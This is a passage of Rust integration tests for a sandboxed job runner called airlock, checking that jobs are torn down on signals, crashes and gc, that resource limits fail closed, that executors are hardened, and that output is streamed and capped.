                String::from_utf8_lossy(&c)
                    .replace('\0', " ")
                    .starts_with(needle)
            })
            .unwrap_or(false)
    })
}

/// Starts `airlock run -- sleep N` and waits until the job's command runs.
fn start_sleeper(w: &World, marker: &str) -> std::process::Child {
    start_sleeper_with(w, marker, |_| {})
}

/// [`start_sleeper`], with `setup` applied to the command first.
fn start_sleeper_with(
    w: &World,
    marker: &str,
    setup: impl FnOnce(&mut std::process::Command),
) -> std::process::Child {
    let mut c = w.cmd();
    c.args(["run", "--", "/bin/sleep", marker])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    setup(&mut c);
    let mut child = c.spawn().expect("spawn");
    let deadline = Instant::now() + Duration::from_secs(20);
    while Instant::now() < deadline {
        if !no_process_with(&format!("/bin/sleep {marker}")) {
            return child;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    let _ = child.kill();
    let _ = child.wait();
    panic!("job never started");
}

#[test]
fn sigterm_and_sigint_tear_the_job_down() {
    need_root!();
    for (sig, code, marker) in [
        (nix::sys::signal::Signal::SIGTERM, 143, "2241"),
        (nix::sys::signal::Signal::SIGINT, 130, "2242"),
    ] {
        let w = World::new();
        let child = start_sleeper(&w, marker);
        // The cgroup check below must be able to see a job's cgroups at all.
        let id = running_job(&w);
        assert!(!cgroups_of(&id).is_empty(), "no cgroup found for {id}");
        nix::sys::signal::kill(nix::unistd::Pid::from_raw(child.id() as i32), sig).expect("signal");
        let o = child.wait_with_output().expect("wait");
        assert_eq!(o.status.code(), Some(code), "{}", stderr(&o));
        assert!(no_process_with(&format!("/bin/sleep {marker}")));
        assert_eq!(assert_job_gone(&o), id);
        w.assert_clean();
    }
}

/// The id of the one job of world `w` that has a state file.
fn running_job(w: &World) -> String {
    let state = std::fs::read_dir(w.state().join("jobs"))
        .expect("jobs")
        .flatten()
        .find(|e| e.path().extension().is_some_and(|x| x == "json"))
        .expect("state file");
    state
        .path()
        .file_stem()
        .expect("stem")
        .to_string_lossy()
        .into_owned()
}

#[test]
fn ctrl_c_to_the_process_group_tears_the_job_down() {
    need_root!();
    use std::os::unix::process::CommandExt;
    let w = World::new();
    // As a shell starts a foreground job: airlock leads its own process group, and the
    // terminal's Ctrl-C goes to every process of that group at once.
    let child = start_sleeper_with(&w, "2246", |c| {
        c.process_group(0);
    });
    let pgid =
        nix::unistd::getpgid(Some(nix::unistd::Pid::from_raw(child.id() as i32))).expect("pgid");
    assert_eq!(pgid.as_raw(), child.id() as i32, "airlock leads its group");
    let id = running_job(&w);
    nix::sys::signal::killpg(pgid, nix::sys::signal::Signal::SIGINT).expect("killpg");
    let o = child.wait_with_output().expect("wait");
    assert_eq!(o.status.code(), Some(130), "{}", stderr(&o));
    assert!(stderr(&o).contains("stopped on signal"), "{}", stderr(&o));
    assert!(
        no_process_with("/bin/sleep 2246"),
        "the job survived Ctrl-C"
    );
    assert_eq!(assert_job_gone(&o), id);
    w.assert_clean();
}

/// An airlock killed between leasing its job's addresses and recording them in the job's
/// state (the state has no network yet): gc releases that lease at once, by the job's id,
/// not a minute later by the lease sweep's age rule.
#[test]
fn gc_releases_a_lease_its_job_never_recorded() {
    need_root!();
    let w = World::new();
    let id = "j0123456789abcdef";
    let jobs = w.state().join("jobs");
    std::fs::create_dir_all(&jobs).expect("jobs");
    // Its owner: a process that has ended (pid and start time no longer match anything).
    let mut gone = std::process::Command::new("true").spawn().expect("spawn");
    let pid = gone.id();
    gone.wait().expect("reap");
    let state = serde_json::json!({
        "id": id, "group": "default", "executor": "libcontainer", "status": "creating",
        "owner": {"pid": pid, "start_time": 1}, "helper": null, "init": null,
        "cgroup": format!("/airlock/{id}"), "created": 0, "net": null
    });
    std::fs::write(jobs.join(format!("{id}.json")), state.to_string()).expect("state");
    let leases = w.state().join("net/leases");
    std::fs::create_dir_all(&leases).expect("leases");
    std::fs::write(leases.join("10.213.7.0"), id).expect("lease");
    gc_removes(&w, id);
    assert!(
        !leases.join("10.213.7.0").exists(),
        "the lease of a job gc removed is still held"
    );
    w.assert_clean();
}

/// `airlock gc` succeeds and says it removed job `id`.
fn gc_removes(w: &World, id: &str) {
    let o = w.cmd().arg("gc").output().expect("gc");
    assert!(o.status.success(), "{}\n{}", stdout(&o), stderr(&o));
    assert!(
        stdout(&o).contains(&format!("removed job {id}")),
        "{}",
        stdout(&o)
    );
}

#[test]
fn kill9_of_airlock_then_gc_leaves_nothing() {
    need_root!();
    let w = World::new();
    let mut child = start_sleeper(&w, "2243");
    // Find the job before killing its airlock.
    let id = running_job(&w);
    child.kill().expect("kill -9");
    let _ = child.wait();
    std::thread::sleep(Duration::from_millis(200));
    // The job outlives a SIGKILLed airlock; gc must finish it.
    assert!(w.state().join("jobs").join(&id).exists());

    gc_removes(&w, &id);
    assert!(
        no_process_with("/bin/sleep 2243"),
        "the job's process survived gc"
    );
    assert!(
        cgroups_of(&id).is_empty(),
        "cgroups left: {:?}",
        cgroups_of(&id)
    );
    w.assert_clean();
    let o = w.cmd().arg("gc").output().expect("gc");
    assert!(stdout(&o).contains("nothing to collect"), "{}", stdout(&o));
}

#[test]
fn gc_leaves_jobs_of_a_live_airlock_alone() {
    need_root!();
    let w = World::new();
    let child = start_sleeper(&w, "2244");
    let o = w.cmd().arg("gc").output().expect("gc");
    assert!(stdout(&o).contains("skipped job"), "{}", stdout(&o));
    assert!(!no_process_with("/bin/sleep 2244"));
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(child.id() as i32),
        nix::sys::signal::Signal::SIGTERM,
    )
    .expect("term");
    let _ = child.wait_with_output();
    w.assert_clean();
}

/// `gc --force` on a job whose airlock still runs asks that airlock to end it (SIGTERM):
/// the airlock tears its job down and records its end (`interrupted`) itself, nothing is torn
/// down under it, and nothing is left.
#[test]
fn gc_force_asks_a_live_airlock_to_end_its_job() {
    need_root!();
    let w = World::new();
    let child = start_sleeper(&w, "2245");
    let o = w.cmd().args(["gc", "--force"]).output().expect("gc");
    assert!(o.status.success(), "{}", stderr(&o));
    assert!(stdout(&o).contains("removed job"), "{}", stdout(&o));
    let out = child.wait_with_output().expect("the airlock ends");
    assert_eq!(out.status.code(), Some(128 + 15), "{}", stderr(&out));
    assert!(no_process_with("/bin/sleep 2245"));
    let ended: Vec<serde_json::Value> = std::fs::read_to_string(w.data().join("audit/audit.jsonl"))
        .unwrap_or_default()
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|r| r["kind"] == "job.ended")
        .collect();
    assert_eq!(ended.len(), 1, "{ended:?}");
    assert_eq!(
        ended[0]["data"]["outcome"]["kind"], "interrupted",
        "{ended:?}"
    );
    assert!(
        ended[0]["data"]["teardown_errors"]
            .as_array()
            .is_none_or(|a| a.is_empty()),
        "its own teardown found things torn down under it: {ended:?}"
    );
    w.assert_clean();
}

#[test]
fn fails_closed_when_a_limit_is_refused() {
    need_root!();
    let w = World::new();
    // The kernel refuses a pids limit above PID_MAX_LIMIT (4194304).
    let p = w.policy("version = 1\n[groups.default]\nlimits = { pids = 99999999 }\n");
    let o = w.run(
        &["-p", &p.to_string_lossy()],
        &["/bin/echo", "should-not-run"],
    );
    let err = stderr(&o);
    assert_eq!(o.status.code(), Some(125), "{err}");
    assert!(!stdout(&o).contains("should-not-run"));
    assert!(err.contains("did not run"), "{err}");
    // The protection by name, and the reason: the kernel refused the value.
    assert!(
        err.contains("refusing to start the job: cgroup pids limit cannot be applied"),
        "the error does not name the pids limit: {err}"
    );
    assert!(
        err.contains("99999999") && err.to_lowercase().contains("invalid argument"),
        "the error does not give the reason: {err}"
    );
    assert_job_gone(&o);
    w.assert_clean();
}

#[test]
fn fails_closed_when_the_workspace_does_not_fit() {
    need_root!();
    let w = World::new();
    std::fs::write(w.ws().join("big"), vec![0u8; 3 << 20]).expect("big");
    let p = w.policy("version = 1\n[groups.default]\nlimits = { disk = \"2MiB\" }\n");
    let o = w.run(&["-p", &p.to_string_lossy()], &["/bin/true"]);
    assert_eq!(o.status.code(), Some(125), "{}", stderr(&o));
    assert!(stderr(&o).contains("does not fit"), "{}", stderr(&o));
    assert_job_gone(&o);
    w.assert_clean();
}

#[test]
fn runc_executor_is_hardened_too() {
    need_root!();
    if which("runc").is_none() {
        panic!("runc is not installed: run scripts/setup.sh");
    }
    let w = World::new();
    let p = w.policy("version = 1\n[groups.default]\nexecutor = \"runc\"\n");
    let o = run_hardening_script(&w, &["-p", &p.to_string_lossy()]);
    assert_hardened(&w, &o);
    assert_job_gone(&o);
    w.assert_clean();
}

#[test]
fn runsc_executor_runs_with_seccomp() {
    need_root!();
    if which("runsc").is_none() {
        panic!("runsc is not installed: run scripts/setup.sh");
    }
    let w = World::new();
    let p =
        w.policy("version = 1\n[groups.default]\nexecutor = \"runsc\"\nprocess_events = false\n");
    let o = w.sh(
        &["-p", &p.to_string_lossy()],
        "id -u; awk '$1==\"Seccomp:\"||$1==\"CapEff:\"{print $2}' /proc/self/status; ./airlock-probe syscalls",
    );
    assert!(o.status.success(), "{}", stderr(&o));
    let out = stdout(&o);
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines[0], "1001");
    assert!(lines.contains(&"2"), "{out}");
    let sc: serde_json::Value = serde_json::from_str(lines.last().expect("json")).expect("json");
    assert_eq!(sc["mount"]["errno"], 1);
    assert_eq!(sc["unshare_user"]["errno"], 1);
    w.assert_clean();
}

fn which(bin: &str) -> Option<std::path::PathBuf> {
    std::env::var_os("PATH")?
        .to_string_lossy()
        .split(':')
        .map(|d| std::path::Path::new(d).join(bin))
        .find(|p| p.exists())
}

#[test]
fn run_without_root_or_with_bad_arguments_explains() {
    let w = World::new();
    let o = w.cmd().args(["run"]).output().expect("run");
    assert_eq!(o.status.code(), Some(2));
    assert!(stderr(&o).contains("CMD"), "{}", stderr(&o));
    let o = w
        .cmd()
        .args(["run", "-g", "nope", "--", "true"])
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(2));
    assert!(
        stderr(&o).contains("no runner group named \"nope\""),
        "{}",
        stderr(&o)
    );
}

#[test]
fn an_executor_crash_still_tears_everything_down() {
    need_root!();
    let w = World::new();
    let child = start_sleeper(&w, "2245");
    // The helper: a root process whose command line is `airlock __helper …`.
    let helper = std::fs::read_dir("/proc")
        .expect("proc")
        .flatten()
        .filter_map(|e| e.file_name().to_str().and_then(|s| s.parse::<i32>().ok()))
        .find(|pid| {
            let cmd = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            let cmd = String::from_utf8_lossy(&cmd).replace('\0', " ");
            cmd.contains(" __helper ") && cmd.contains(&w.state().to_string_lossy().into_owned())
        })
        .expect("helper process");
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(helper),
        nix::sys::signal::Signal::SIGKILL,
    )
    .expect("kill helper");
    let o = child.wait_with_output().expect("wait");
    assert_eq!(o.status.code(), Some(125), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("without reporting a result"),
        "{}",
        stderr(&o)
    );
    assert!(
        no_process_with("/bin/sleep 2245"),
        "the job survived its executor"
    );
    assert_job_gone(&o);
    w.assert_clean();
}

#[test]
fn output_streams_live() {
    need_root!();
    use std::io::BufRead;
    let w = World::new();
    let mut c = w.cmd();
    c.args([
        "run",
        "-q",
        "--",
        "/bin/sh",
        "-c",
        "echo first; sleep 3; echo second",
    ])
    .stdout(Stdio::piped())
    .stderr(Stdio::null());
    let mut child = c.spawn().expect("spawn");
    let started = Instant::now();
    let mut lines = std::io::BufReader::new(child.stdout.take().expect("stdout")).lines();
    assert_eq!(lines.next().and_then(Result::ok).as_deref(), Some("first"));
    let first_after = started.elapsed();
    assert_eq!(lines.next().and_then(Result::ok).as_deref(), Some("second"));
    assert!(child.wait().expect("wait").success());
    assert!(
        first_after < Duration::from_millis(2500),
        "first line arrived only after {first_after:?}: output is buffered, not streamed"
    );
    w.assert_clean();
}

#[test]
fn a_workdir_holding_the_state_directory_is_refused() {
    need_root!();
    let w = World::new();
    let mut c = w.cmd();
    c.env("AIRLOCK_STATE_DIR", w.ws().join("state"))
        .args(["run", "-w"])
        .arg(w.ws())
        .args(["--", "/bin/true"]);
    let o = c.output().expect("run");
    assert_eq!(o.status.code(), Some(125), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("contains airlock's state directory"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn home_stays_writable_with_a_workspace() {
    need_root!();
    let w = World::new();
    // The workspace layer lies above the base; its copy of $HOME must belong to the job user.
    // (World::run always passes a workspace.)
    let o = w.sh(&[], "touch ~/.cache-test && mkdir -p ~/.cargo && echo ok");
    assert!(stdout(&o).contains("ok"), "{}", stderr(&o));
    assert_job_gone(&o);
    w.assert_clean();
}

/// airlock started where no cgroup hierarchy is mounted (as under `ip netns exec`, which mounts
/// a fresh /sys): the job does not start, the report says why by kind (`cgroups`, which serve
/// decides on), and the operator is told what to do. Nothing of the job is left.
#[test]
fn without_a_cgroup_hierarchy_the_job_is_refused_with_a_typed_reason_and_a_hint() {
    need_root!();
    let w = World::new();
    let report = w.dir.path().join("report.json");
    let airlock = airlock_bin();
    let script = r#"for m in $(awk '$9 ~ /^cgroup/ {print $5}' /proc/self/mountinfo | sort -r); do umount -l "$m" || exit 97; done; exec "$@""#;
    let mut c = w.in_netns(&[
        "unshare",
        "--mount",
        "--propagation",
        "private",
        "sh",
        "-c",
        script,
        "sh",
        &airlock,
        "run",
        "--report",
        report.to_str().expect("utf-8 path"),
        "--",
        "/bin/true",
    ]);
    c.env("AIRLOCK_STATE_DIR", w.state())
        .env("AIRLOCK_DATA_DIR", w.data());
    let o = c.output().expect("run");
    assert_eq!(o.status.code(), Some(125), "{}", stderr(&o));
    assert!(stderr(&o).contains("nsenter --net"), "{}", stderr(&o));
    let r: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&report).expect("report")).expect("json");
    assert_eq!(r["outcome"]["kind"], "failed", "{r}");
    assert_eq!(r["outcome"]["value"]["kind"], "cgroups", "{r}");
    assert!(
        r["teardown_errors"].as_array().is_some_and(Vec::is_empty),
        "{r}"
    );
    w.assert_clean();
}

/// A job that prints without end costs the file its output goes to at most `--max-output`
/// (airlock serve's runner logs): the rest is drained (the job runs to its end, not stalled),
/// dropped, counted, and said once in the output and once by airlock.
#[test]
fn max_output_bounds_what_a_job_prints() {
    need_root!();
    let w = World::new();
    let out = w.dir.path().join("output.log");
    let f = std::fs::File::create(&out).expect("output file");
    let o = w
        .cmd()
        .args([
            "run",
            "-q",
            "--max-output",
            "1MiB",
            "--",
            "/bin/sh",
            "-c",
            // 64 MiB to stdout and to stderr, then a last word that must not be kept either.
            "head -c 67108864 /dev/zero; head -c 67108864 /dev/zero >&2; echo finished",
        ])
        .stdout(f.try_clone().expect("clone"))
        .stderr(Stdio::piped())
        .output()
        .expect("run");
    assert!(o.status.success(), "{}", stderr(&o));
    let kept = std::fs::read(&out).expect("read");
    let note = b"[airlock: the job's output passed --max-output (1048576 bytes)";
    let zeros = kept.iter().filter(|b| **b == 0).count();
    assert_eq!(zeros, 1 << 20, "kept {} bytes", kept.len());
    assert_eq!(
        kept.windows(note.len()).filter(|w| *w == note).count(),
        1,
        "{:?}",
        String::from_utf8_lossy(&kept[kept.len().saturating_sub(200)..])
    );
    assert!(!String::from_utf8_lossy(&kept).contains("finished"));
    let said = stderr(&o);
    assert!(
        said.contains("output was cut at 1048576 bytes")
            && said.contains(&format!("{} bytes dropped", (128u64 << 20) - (1 << 20) + 9)),
        "{said}"
    );
    w.assert_clean();
}
